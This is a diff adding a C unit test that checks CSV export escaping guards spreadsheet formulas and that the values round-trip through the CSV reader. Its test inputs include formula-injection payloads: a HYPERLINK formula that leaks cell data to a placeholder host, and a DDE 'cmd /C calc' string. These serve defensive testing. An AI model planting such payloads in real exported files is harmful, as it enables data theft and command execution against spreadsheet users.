@@ -4,7 +4,10 @@
 #include "testutil.h"
 
 #include "base/sbuf.h"
+#include "base/table.h"
 #include "report/escape.h"
+
+#include <stdlib.h>
 
 static void esc_is(void (*fn)(struct sbuf *, const char *), const char *in, const char *want)
 {
@@ -34,6 +37,51 @@ static void test_csv(void **state)
 	esc_is(escape_csv, "a\rb", "\"a\rb\"");
 	esc_is(escape_csv, "a\r\nb", "\"a\r\nb\"");
 	esc_is(escape_csv, "x'y;z|w", "x'y;z|w");
+}
+
+/* One cell read back by the CSV reader. */
+static int grab2(void *ctx, size_t line, size_t n, const char *const *cells, struct kfq_err *err)
+{
+	(void)line;
+	(void)err;
+	assert_int_equal(n, 2);
+	*(char **)ctx = strdup(cells[0]);
+	return 0;
+}
+
+/* Spreadsheet formulas: guarded on the way out, the guard dropped on the
+ * way in, every text back as it was (OWASP's characters, numbers left as
+ * they are). */
+static void test_csv_formulas(void **state)
+{
+	static const char *const TEXT[] = {
+		"=HYPERLINK(\"http://x/?d=\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
+		"\tx", "\rx", "=", "-", "'=x", "''=x", "'", "''", "'s-Hertogenbosch", "-12.5", "+5",
+		"12", "-.5", "1-2", "丹阳", "=丹阳", NULL,
+	};
+	(void)state;
+	esc_is(escape_csv, "=1+1", "'=1+1");
+	esc_is(escape_csv, "@A1", "'@A1");
+	esc_is(escape_csv, "-2+3", "'-2+3");
+	esc_is(escape_csv, "-12.5", "-12.5");
+	esc_is(escape_csv, "+5", "+5");
+	esc_is(escape_csv, "'=x", "''=x");
+	esc_is(escape_csv, "'s", "'s");
+	esc_is(escape_csv, "=a,b", "\"'=a,b\"");
+	esc_is(escape_csv, "\rx", "\"'\rx\"");
+	for (int i = 0; TEXT[i]; i++) {
+		struct sbuf sb;
+		struct kfq_err err = { 0 };
+		char *back = NULL;
+		sbuf_init(&sb);
+		escape_csv(&sb, TEXT[i]);
+		sbuf_adds(&sb, ",\n");   /* and an empty second cell */
+		assert_int_equal(table_each_csv("t.csv", sb.buf, sb.len, grab2, &back, &err), 0);
+		assert_non_null(back);
+		assert_string_equal(back, TEXT[i]);
+		free(back);
+		sbuf_release(&sb);
+	}
 }
 
 static void test_json(void **state)
@@ -87,6 +135,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_csv),
+		cmocka_unit_test(test_csv_formulas),
 		cmocka_unit_test(test_json),
 		cmocka_unit_test(test_md),
 		cmocka_unit_test(test_html),
